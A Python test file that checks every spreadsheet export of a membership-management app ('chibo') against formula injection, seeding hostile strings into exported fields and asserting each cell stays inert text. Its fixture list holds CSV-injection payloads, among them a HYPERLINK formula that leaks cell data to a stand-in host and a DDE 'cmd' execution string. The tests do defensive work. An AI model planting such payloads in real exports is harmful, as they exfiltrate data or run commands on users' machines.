"""Every XLSX and CSV chibo hands out goes through one writer, and no text in it runs as a formula.

The review found `=HYPERLINK(…)` written as a live formula and `+cmd|' /C
calc'!A0`, `@SUM(1)` left as they were in the admitted-members XLSX and the
compiled directive XLSX. Here hostile text sits in every field the exports
show (names, ethnicity, org names, unit names, figure labels, import cells),
each export is produced and opened back, and every cell is checked.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from chibo.core.roles import Role
from chibo.core.spreadsheet import DANGEROUS_PREFIXES, Book, CsvWriter, Formula
from chibo.members.models import Category, Member
from tests import factories as f
from tests.interchange.helpers import MEMBER_HEADER, member_row, write_xlsx

CHIBO = Path(__file__).resolve().parents[1] / "chibo"
WRITER = CHIBO / "core" / "spreadsheet.py"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_no_module_but_the_writer_makes_a_workbook_or_a_csv_writer() -> None:
    offenders = []
    for path in CHIBO.rglob("*.py"):
        if path == WRITER or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Call):
                func = node.func
                name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                owner = getattr(func.value, "id", "") if isinstance(func, ast.Attribute) else ""
                if name == "Workbook" or (owner == "csv" and name in ("writer", "DictWriter")):
                    offenders.append(f"{path.relative_to(CHIBO)}:{node.lineno}")
    assert offenders == [], "write spreadsheets through chibo.core.spreadsheet"


def test_the_writer_neutralises_text_and_keeps_its_own_formulas() -> None:
    book = Book()
    sheet = book.sheet("t")
    sheet.append([*HOSTILE, 5, -3, dt.date(2024, 1, 2), Formula("=SUM(G1:G1)")])
    sheet.cell(2, 1, "=1+1")
    wb = load_workbook(io.BytesIO(book.save()))
    row = [c for c in wb.active[1]]
    assert [c.value for c in row[:6]] == ["'" + h for h in HOSTILE]
    assert all(c.data_type == "s" for c in row[:6])
    assert [c.value for c in row[6:8]] == [5, -3]
    assert row[9].data_type == "f" and row[9].value == "=SUM(G1:G1)"
    assert wb.active["A2"].value == "'=1+1" and wb.active["A2"].data_type == "s"
    out = io.StringIO()
    CsvWriter(out).writerow([*HOSTILE, -3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [*("'" + h for h in HOSTILE), "-3"]
    with pytest.raises(ValueError):
        Formula("SUM(1)")


def _cells_of_xlsx(body: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(body))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


def _cells_of_csv(text: str) -> list[object]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _check(name: str, cells: list[object], expect_hostile: bool = True) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    running = [t for t in texts if t.startswith(DANGEROUS_PREFIXES)]
    assert running == [], f"{name}: text that a spreadsheet would run: {running[:3]}"
    if expect_hostile:
        guarded = [t for t in texts if t.startswith("'") and t[1:].startswith(DANGEROUS_PREFIXES)]
        assert guarded, f"{name}: the hostile text did not reach this export"


@pytest.mark.django_db
def test_every_export_neutralises_hostile_text(tree, tmp_path, settings) -> None:
    from chibo.directives import compile as compiling
    from chibo.directives import services as directive_services
    from chibo.directives.models import CommitteeTerm, Recurrence
    from chibo.interchange import export, sheets
    from chibo.orgs.models import Org
    from chibo.reports import records

    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    Org.objects.filter(pk=tree["cell_a"].pk).update(name=HOSTILE[2])
    Org.objects.filter(pk=tree["school"].pk).update(name=HOSTILE[1])
    today = dt.date.today()
    for i, name in enumerate(HOSTILE):
        member = f.member(
            tree["cell_a"] if i % 2 else tree["school"],
            full_name=name,
            category=Category.STUDENT,
            admitted_on=dt.date(today.year, 1, 2),
            code=f"DVH{i}",
        )
        Member.objects.filter(pk=member.pk).update(ethnicity=HOSTILE[(i + 1) % len(HOSTILE)][:40])
    produced: dict[str, list[object]] = {}

    # interchange: members and orgs, XLSX and CSV; the error report; the template
    for kind in ("members", "orgs"):
        xlsx = io.BytesIO()
        export.export(actor=None, kind=kind, root=None, fmt="xlsx", out=xlsx)
        produced[f"export {kind} xlsx"] = _cells_of_xlsx(xlsx.getvalue())
        text = io.StringIO()
        export.export(actor=None, kind=kind, root=None, fmt="csv", out=text)
        produced[f"export {kind} csv"] = _cells_of_csv(text.getvalue())
    upload = write_xlsx(
        tmp_path / "up.xlsx",
        MEMBER_HEADER,
        [member_row("X1", ho_ten=HOSTILE[0], dan_toc=HOSTILE[1], ngay_sinh=HOSTILE[2])],
    )
    problems = [
        {"sheet": "dang_vien", "row": 2, "column": "ngay_sinh", "value": HOSTILE[2], "message": "x"}
    ]
    produced["import error report"] = _cells_of_xlsx(
        sheets.error_report_xlsx(str(upload), "members", problems)
    )
    for kind in ("members", "orgs"):
        _check(f"template {kind}", _cells_of_xlsx(sheets.template_xlsx(kind)), False)

    # reports: every kind, and the members behind each figure, through the views
    client = Client()
    client.force_login(f.user("tp", Role.CITY_OFFICE, tree["city"]))
    for kind in ("admissions", "removals", "composition", "activity"):
        response = client.get(reverse("reports:export", args=[kind, "xlsx"]), {"org": "BK"})
        assert response.status_code == 200, kind
        # Only the admissions report lists units here (the others show counts by category).
        _check(f"report {kind}", _cells_of_xlsx(response.content), kind == "admissions")
    # the members behind a figure, as XLSX (the admitted-members list is its admissions kind)
    for kind in records.KINDS:
        response = client.get(reverse("reports:records_xlsx", args=[kind]), {"org": "BK"})
        assert response.status_code == 200, kind
        if kind == "removals":  # nobody was removed: the header and title only
            _check(f"members behind {kind}", _cells_of_xlsx(response.content), False)
        else:
            produced[f"members behind {kind}"] = _cells_of_xlsx(response.content)

    # directives: the compiled report's figures XLSX (unit names, figure labels)
    CommitteeTerm.objects.create(
        org=tree["city"], name="2025–2030", starts_on=dt.date(2025, 10, 16)
    )
    directive = directive_services.document_register_incoming(
        actor=None,
        org=tree["city"],
        symbol="1000-CV/TU",
        issuing_org=tree["city"],
        title=HOSTILE[0],
        issuing_body="Ban Thường vụ Thành ủy",
        issued_on=dt.date(2026, 1, 5),
        incoming_number="1",
        recipients=[],
        cites=[],
    )
    task = directive_services.task_create(
        actor=None,
        document=directive,
        section="1",
        title=HOSTILE[1],
        recurrence=Recurrence.SEMIANNUAL,
        report_due_days=10,
        orgs=[tree["uni"]],
        named_units=[HOSTILE[0]],
    )
    staff = f.user("bk", Role.SUPERIOR_STAFF, tree["uni"])
    period = f"{today.year}-H1" if today.month <= 6 else f"{today.year}-H2"
    report = directive_services.report_save(
        actor=staff,
        assignment=task.assignments.get(org=tree["uni"]),
        period=period,
        text=HOSTILE[3],
        figures={HOSTILE[2]: 3, HOSTILE[4]: 1},
    )
    directive_services.report_submit(actor=staff, report=report)
    compiled = compiling.report_compile(
        actor=f.user("vp", Role.CITY_OFFICE, tree["city"]),
        directive=directive,
        period=period,
        issued_on=today,
        signer="Nguyễn Văn A",
        signer_title="Phó Bí thư",
    )
    produced["compiled directive"] = _cells_of_xlsx(compiling.compiled_xlsx(compiled))

    for name, cells in produced.items():
        _check(name, cells)
